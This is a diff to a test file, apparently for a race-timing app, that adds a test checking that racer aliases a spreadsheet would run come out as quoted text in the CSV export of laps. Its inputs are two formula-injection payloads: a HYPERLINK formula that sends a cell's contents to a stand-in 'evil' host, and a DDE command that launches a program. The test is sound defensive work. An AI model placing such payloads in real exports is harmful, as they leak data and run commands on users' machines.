@@ -90,6 +90,16 @@ it('exports laps as CSV', async () => {
   expect(lines[2]).toContain(',anna,anna,qualifying,confirmed,2,crossing,true,9500000,9500000,0,100,');
 });
 
+it.each([
+  ['=HYPERLINK("http://evil/?"&A1,"click")', `"'=HYPERLINK(""http://evil/?""&A1,""click"")"`],
+  ["@SUM(1+1)*cmd|' /C calc'!A0", "'@SUM(1+1)*cmd|' /C calc'!A0"],
+])('an alias that a spreadsheet would run is text in the export of laps: %s', async (alias, cell) => {
+  const entry = { racer: 'anna', alias, car: null, models: [] };
+  await world.give({ type: 'change-entry', entry } as never);
+  const csv = await run('export', race, '--format', 'csv', ...here());
+  expect(csv).toContain(`,anna,${cell},qualifying,`);
+});
+
 it('signs a result sheet that belongs to this log and no other', async () => {
   const file = join(folder, 'sheet.json');
   await run('sheet', race, '--out', file, ...here());
